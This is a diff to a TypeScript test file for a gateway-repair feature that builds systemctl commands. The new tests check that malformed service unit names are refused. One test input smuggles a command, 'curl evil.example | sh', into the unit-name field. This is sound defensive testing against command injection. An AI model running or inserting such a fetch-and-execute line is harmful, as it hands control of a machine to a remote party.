@@ -56,9 +56,9 @@ describe('the repair of a gateway by OpenClaw itself', () => {
 });
 
 describe('repair steps', () => {
-  const stepsFor = (manager: Server['manager']) => {
+  const stepsFor = (manager: Server['manager'], unit = 'openclaw-gateway.service') => {
     const { server, tools } = createServer(createFastForwardClock());
-    server.manager = manager;
+    Object.assign(server, { manager, unit });
     return createReadRepairSteps(tools)('srv_1', { signal: new AbortController().signal });
   };
 
@@ -75,12 +75,25 @@ describe('repair steps', () => {
       [
         'doctor',
         [
-          'openclaw doctor --fix --non-interactive',
+          'openclaw --no-color doctor --fix --non-interactive',
           'systemctl --user reset-failed openclaw-gateway.service',
           'systemctl --user restart openclaw-gateway.service',
         ],
       ],
     ]);
+  });
+
+  test.each([
+    'openclaw-gateway.service; curl evil.example | sh',
+    'a b.service',
+    `${'x'.repeat(101)}.service`,
+    'x',
+  ])('are refused where the server names "%s" as the unit', async (unit) => {
+    await expect(stepsFor('systemd-user', unit)).rejects.toMatchObject({ code: 'unsupported' });
+  });
+
+  test.each(['openclaw@main.service', 'open\\x2dclaw.service'])('name the unit %s', async (unit) => {
+    expect((await stepsFor('systemd-system', unit))[0]?.runs).toContain(`systemctl restart ${unit}`);
   });
 
   test('are refused where no service manager runs the gateway', async () => {
